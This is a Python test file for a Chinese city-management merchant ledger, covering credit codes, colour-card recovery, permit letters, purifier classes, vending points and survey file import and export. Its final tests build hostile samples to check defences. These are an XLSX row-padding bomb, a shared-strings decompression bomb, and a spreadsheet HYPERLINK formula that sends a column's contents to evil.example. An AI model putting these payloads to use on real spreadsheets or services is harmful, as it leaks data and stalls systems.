"""The ledger's rules, each on its own: the credit code's check character, a survey row's checks,
一卡四色's movement and recovery, letters' validity, catering size classes and cleaning, the
designated points' distance and survey rules, the flyer numbers' states; and the survey file
reader (CSV in UTF-8 and GB18030, XLSX)."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import Workbook, load_workbook

from common.clock import BEIJING
from ledger.adapters.survey_files import ReadLimits, SurveyFileRefused, SurveyFileTooLarge, read_rows, write_rows
from ledger.domain.catering import (
    CleaningRule,
    SizeClass,
    below_required,
    cleaning_due,
    cleaning_overdue,
    required_efficiency,
    size_class,
)
from ledger.domain.colour import Colour, RecoveryMode, RecoveryRule, colour_after_enforcement, recovery
from ledger.domain.credit_code import CreditCodeInvalid, check_credit_code
from ledger.domain.flyers import FlyerStatus, next_status
from ledger.domain.letters import LetterRule, LetterStatus, status, valid_until
from ledger.domain.merchant import RowRefused, business_nature, checked, identity_key, phone_number
from ledger.domain.months import add_months, add_months_at
from ledger.domain.points import (
    PointRefused,
    SchoolGate,
    SurveyRule,
    area,
    can_approve,
    nearest_school,
    refuse_near_school,
)

VALID = "91350100M000100Y43"


# -- 统一社会信用代码 -----------------------------------------------------------------------------


def test_a_valid_credit_code_passes_and_is_normalised():
    assert check_credit_code(VALID) == VALID
    assert check_credit_code(" 91350100m000100y43 ") == VALID


@pytest.mark.parametrize(
    "code, position, says",
    [
        ("91350100M000100Y44", 18, "check character is '4', but the first 17 characters give '3'"),
        ("91350100M0001O0Y43", 14, "'O' is not a character of the code"),
        ("Z1350100M000100Y43", 1, "position 1"),
        ("913501A0M000100Y43", 7, "not a digit"),
        ("91350100M000100Y4", None, "has 17"),
    ],
)
def test_a_wrong_credit_code_names_the_position_that_fails(code, position, says):
    with pytest.raises(CreditCodeInvalid) as refused:
        check_credit_code(code)
    assert refused.value.position == position and says in str(refused.value)


# -- a merchant's record --------------------------------------------------------------------------


def test_business_natures_phone_numbers_and_the_identity_key():
    assert business_nature("餐饮") == business_nature("catering") == "catering"
    with pytest.raises(ValueError, match="餐饮 \\(catering\\)"):
        business_nature("饭店")
    assert phone_number("+86 138 1234 5678") == "13812345678" and phone_number("0371-67891234") == "0371-67891234"
    with pytest.raises(ValueError):
        phone_number("12345")
    assert identity_key(" 老王 烩面 ", "汝河路 88号") == identity_key("老王烩面", "汝河路88号")


def test_a_row_names_everything_wrong_with_it_at_once():
    with pytest.raises(RowRefused) as refused:
        checked(
            name="",
            operator="王某",
            address="汝河路 1 号",
            business_nature_value="饭店",
            lon="113.6x",
            lat="34.7",
            phone="12345",
            credit_code="91350100M000100Y44",
        )
    errors = " | ".join(refused.value.errors)
    for field in ("name: empty", "business_nature:", "lon/lat:", "phone:", "credit_code: position 18"):
        assert field in errors, errors
    ok = checked(
        name="老王烩面馆",
        operator="王某",
        address="汝河路 88 号",
        business_nature_value="餐饮",
        lon="113.6185",
        lat=34.7432,
        phone="13812345678",
        credit_code=VALID,
    )
    assert (ok.business_nature, ok.lon, ok.credit_code) == ("catering", 113.6185, VALID)
    with pytest.raises(RowRefused, match="not a position in China"):
        checked(name="x", operator="y", address="z", business_nature_value="retail", lon=2.35, lat=48.85)


# -- 一卡四色 --------------------------------------------------------------------------------------

AT = datetime(2026, 3, 10, 2, 0, tzinfo=UTC)
SIX = RecoveryRule(RecoveryMode.stepwise, 6)


def test_enforcement_steps_move_the_card_and_never_lower_it():
    assert colour_after_enforcement(Colour.blue, "warn") == Colour.yellow
    assert colour_after_enforcement(Colour.blue, "seize") == Colour.red
    assert colour_after_enforcement(Colour.red, "warn") == Colour.red
    assert colour_after_enforcement(Colour.orange, "pay") == Colour.orange


def test_stepwise_recovery_one_level_after_six_months_without_a_violation():
    since = AT
    assert (
        recovery(Colour.orange, colour_since=since, last_violation_at=since, now=since + timedelta(days=180), rule=SIX)
        is None
    )  # 10 March + 180 days is 6 September: not yet 10 September
    step = recovery(Colour.orange, colour_since=since, last_violation_at=since, now=add_months_at(since, 6), rule=SIX)
    assert step is not None and (step.colour, step.reason) == (Colour.yellow, "recovery")
    # a violation that changed nothing (red stays red) still restarts the months
    later = since + timedelta(days=100)
    assert (
        recovery(Colour.red, colour_since=since, last_violation_at=later, now=add_months_at(since, 6), rule=SIX) is None
    )
    assert (
        recovery(Colour.red, colour_since=since, last_violation_at=later, now=add_months_at(later, 6), rule=SIX).colour
        == Colour.orange
    )
    assert (
        recovery(Colour.blue, colour_since=since, last_violation_at=None, now=since + timedelta(days=999), rule=SIX)
        is None
    )


def test_yearly_reset_back_to_blue_in_a_new_year_without_a_violation():
    rule = RecoveryRule(RecoveryMode.yearly, 6)
    dec = datetime(2026, 12, 20, 4, tzinfo=UTC)
    new_year = datetime(2026, 12, 31, 16, 0, 1, tzinfo=UTC)  # 00:00:01 on 1 January in Beijing
    assert (
        recovery(Colour.red, colour_since=dec, last_violation_at=dec, now=new_year - timedelta(seconds=2), rule=rule)
        is None
    )
    step = recovery(Colour.red, colour_since=dec, last_violation_at=dec, now=new_year, rule=rule)
    assert (step.colour, step.reason) == (Colour.blue, "yearly_reset")
    jan = datetime(2027, 1, 5, tzinfo=UTC)
    assert recovery(Colour.red, colour_since=dec, last_violation_at=jan, now=jan + timedelta(days=1), rule=rule) is None


def test_months_on_the_calendar():
    assert add_months(date(2026, 8, 31), 6) == date(2027, 2, 28)
    assert add_months(date(2027, 11, 30), 3) == date(2028, 2, 29)
    assert add_months(date(2026, 3, 10), -6) == date(2025, 9, 10)
    end_of_month = datetime(2026, 8, 30, 17, tzinfo=UTC)  # 31 August, 01:00 in Beijing
    assert add_months_at(end_of_month, 1).astimezone(BEIJING).date() == date(2026, 9, 30)


# -- 门前三包 letters -------------------------------------------------------------------------------


def test_a_letter_is_valid_a_year_then_due_then_expired():
    rule = LetterRule(12, 30)
    until = valid_until(date(2026, 3, 2), rule)
    assert until == date(2027, 3, 2)
    assert status(until, date(2027, 1, 30), rule) == LetterStatus.valid  # 31 days left
    assert status(until, date(2027, 1, 31), rule) == LetterStatus.renewal_due  # 30 days left
    assert status(until, date(2027, 3, 2), rule) == LetterStatus.expired
    assert valid_until(date(2024, 2, 29), rule) == date(2025, 2, 28)


# -- 餐饮油烟 ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "heads, size, required",
    [
        (1, SizeClass.small, 60),
        (2.9, SizeClass.small, 60),
        (3, SizeClass.medium, 75),
        (5.5, SizeClass.medium, 75),
        (6, SizeClass.large, 85),
        (12, SizeClass.large, 85),
    ],
)
def test_size_classes_and_what_gb_18483_requires(heads, size, required):
    assert size_class(heads) == size and required_efficiency(heads) == required


def test_a_purifier_below_its_class_and_cleaning_overdue():
    with pytest.raises(ValueError):
        size_class(0.5)
    assert below_required(70, 4) and not below_required(75, 4) and not below_required(70, 2)
    rule = CleaningRule(3)
    assert cleaning_due(None, date(2026, 1, 31), rule) == date(2026, 4, 30)
    assert cleaning_due(date(2026, 5, 10), date(2026, 1, 31), rule) == date(2026, 8, 10)
    assert not cleaning_overdue(date(2026, 5, 10), date(2026, 1, 31), date(2026, 8, 10), rule)
    assert cleaning_overdue(date(2026, 5, 10), date(2026, 1, 31), date(2026, 8, 11), rule)


# -- 便民疏导点 ------------------------------------------------------------------------------------


def _square(lon, lat, side_deg=0.0004):
    return {
        "type": "Polygon",
        "coordinates": [
            [[lon, lat], [lon + side_deg, lat], [lon + side_deg, lat + side_deg], [lon, lat + side_deg], [lon, lat]]
        ],
    }


def test_no_point_within_100_m_of_a_school_gate_and_the_distance_is_said():
    gate = SchoolGate("g", "汝河路小学", 113.61, 34.735)
    near = area(_square(113.6105, 34.735))  # its edge ~46 m east of the gate
    gate_found, metres = nearest_school(near, [gate])
    assert gate_found == gate and 40 < metres < 50
    with pytest.raises(PointRefused, match=r"is 4\d m from the gate of 汝河路小学; no point within 100 m"):
        refuse_near_school(near, [gate], SurveyRule(100, 2))
    far = area(_square(113.6125, 34.735))  # ~229 m
    refuse_near_school(far, [gate], SurveyRule(100, 2))
    refuse_near_school(near, [gate], SurveyRule(40, 2))  # a bureau's own distance
    with pytest.raises(PointRefused, match="Polygon"):
        area({"type": "Point", "coordinates": [113.6, 34.7]})


def test_approval_needs_enough_opinions_and_none_against():
    rule = SurveyRule(100, 2)
    with pytest.raises(PointRefused, match="needs the opinions of 2 departments; 1 recorded"):
        can_approve({"城管": True}, rule)
    with pytest.raises(PointRefused, match="against it \\(交警\\)"):
        can_approve({"城管": True, "交警": False}, rule)
    can_approve({"城管": True, "交警": True}, rule)


# -- 小广告号码 --------------------------------------------------------------------------------------


def test_a_flyer_number_goes_forward_only_and_a_fine_has_its_amount():
    assert next_status(FlyerStatus.tracked, FlyerStatus.stopped, None) == FlyerStatus.stopped
    assert next_status(FlyerStatus.stopped, FlyerStatus.fined, 50_000) == FlyerStatus.fined
    with pytest.raises(ValueError, match="amount"):
        next_status(FlyerStatus.tracked, FlyerStatus.fined, None)
    with pytest.raises(ValueError, match="cannot become"):
        next_status(FlyerStatus.fined, FlyerStatus.stopped, None)


# -- survey files ---------------------------------------------------------------------------------


def test_csv_in_gb18030_with_chinese_headers_and_blank_rows_skipped():
    text = (
        "店名,经营者,地址,经营性质,经度,纬度\n老王烩面馆,王某,汝河路88号,餐饮,113.6185,34.7432\n,,,,,\n"
        "李记修鞋,李某,建设路1号,维修,,\n"
    )
    rows = list(read_rows("survey.csv", text.encode("gb18030"), ReadLimits(100)))
    assert [n for n, _ in rows] == [2, 4]
    assert rows[0][1]["name"] == "老王烩面馆" and rows[0][1]["business_nature"] == "餐饮"


def test_xlsx_rows_numbered_as_the_spreadsheet_numbers_them():
    book = Workbook()
    sheet = book.active
    sheet.append(["name", "operator", "address", "business_nature", "phone", "lon", "lat"])
    sheet.append(["老王烩面馆", "王某", "汝河路88号", "catering", 13812345678, 113.6185, 34.7432])
    sheet.append([None] * 7)
    sheet.append(["x", "y", "z", "retail", None, None, None])
    buf = io.BytesIO()
    book.save(buf)
    rows = list(read_rows("survey.xlsx", buf.getvalue(), ReadLimits(100)))
    assert [n for n, _ in rows] == [2, 4] and rows[0][1]["phone"] == 13812345678


def test_a_file_without_a_required_column_or_with_too_many_rows_is_refused_whole():
    with pytest.raises(SurveyFileRefused, match="no column operator"):
        list(read_rows("a.csv", b"name,address,business_nature\nx,y,retail\n", ReadLimits(10)))
    many = "name,operator,address,business_nature\n" + "x,y,z,retail\n" * 3
    with pytest.raises(SurveyFileTooLarge, match="more than 2 rows"):
        read_rows("a.csv", many.encode(), ReadLimits(2))
    # empty rows count too: a file is refused by its length, not by what it holds
    sparse = "name,operator,address,business_nature\n" + ",,,\n" * 3 + "x,y,z,retail\n"
    with pytest.raises(SurveyFileTooLarge, match="more than 3 rows"):
        read_rows("a.csv", sparse.encode(), ReadLimits(3))


def test_the_export_reads_back_as_an_import():
    rows = [
        {
            "name": "老王烩面馆",
            "operator": "王某",
            "address": "汝河路88号",
            "business_nature": "catering",
            "phone": "13812345678",
            "lon": 113.6185,
            "lat": 34.7432,
            "sign": None,
            "credit_code": VALID,
        }
    ]
    for kind in ("csv", "xlsx"):
        data, _ = write_rows(rows, kind, chinese=kind == "xlsx")
        back = list(read_rows(f"x.{kind}", data, ReadLimits(10)))
        assert back[0][1]["name"] == "老王烩面馆" and back[0][1]["credit_code"] == VALID


def _rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """An XLSX with some of its parts replaced or added (as an attacker would write them by hand)."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            z.writestr(item.filename, replace.get(item.filename, src.read(item.filename)))
        for name in replace.keys() - set(src.namelist()):
            z.writestr(name, replace[name])
    return out.getvalue()


def _survey_xlsx() -> bytes:
    book = Workbook()
    book.active.append(["name", "operator", "address", "business_nature"])
    book.active.append(["老王烩面馆", "王某", "汝河路88号", "catering"])
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def test_a_sheet_declaring_a_million_rows_of_16384_cells_is_read_by_its_rows_and_refused_at_the_limit():
    """Two kilobytes that declare A1:XFD1048576 and hold one cell in row 1,048,576: openpyxl would
    pad a million rows of 16,384 cells (ten minutes of a stalled service)."""
    data = _survey_xlsx()
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    sheet = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', sheet)
    sheet = sheet.replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    bomb = _rezip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})
    assert len(bomb) < 8000
    # refused at row 50,001 (empty rows count), not after padding a million rows
    with pytest.raises(SurveyFileTooLarge, match="more than 50000 rows"):
        read_rows("survey.xlsx", bomb, ReadLimits(50_000))


def test_a_workbook_whose_shared_strings_unpack_out_of_proportion_is_refused_before_openpyxl_reads_it():
    bomb = (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<si><t>" + b"a" * 50_000_000 + b"</t></si></sst>"
    )
    data = _rezip(_survey_xlsx(), {"xl/sharedStrings.xml": bomb})
    assert len(data) < 200_000
    with pytest.raises(SurveyFileTooLarge, match="sharedStrings.xml unpacks"):
        read_rows("survey.xlsx", data, ReadLimits(100))
    with pytest.raises(SurveyFileTooLarge, match="unpacks to"):
        read_rows("survey.xlsx", data, ReadLimits(100, max_unpacked_bytes=10_000_000))


FORMULA = '=HYPERLINK("https://evil.example/?"&TEXTJOIN(",",1,D:D),"详情")'


def test_the_export_writes_text_that_looks_like_a_formula_as_text():
    rows = [
        {
            "name": FORMULA,
            "operator": "+86 王某",
            "address": "@汝河路",
            "business_nature": "-",
            "phone": None,
            "lon": 113.6185,
            "lat": 34.7432,
            "sign": "\t门头",
            "credit_code": None,
        }
    ]
    data, _ = write_rows(rows, "csv", chinese=False)
    line = data.decode("utf-8-sig").splitlines()[1]
    assert line.startswith("\"'=HYPERLINK(") and ",'+86 王某," in line and ",'@汝河路," in line and ",'-," in line
    assert ",113.6185,34.7432," in line  # numbers stay numbers
    data, _ = write_rows(rows, "xlsx", chinese=False)
    sheet = load_workbook(io.BytesIO(data)).active
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
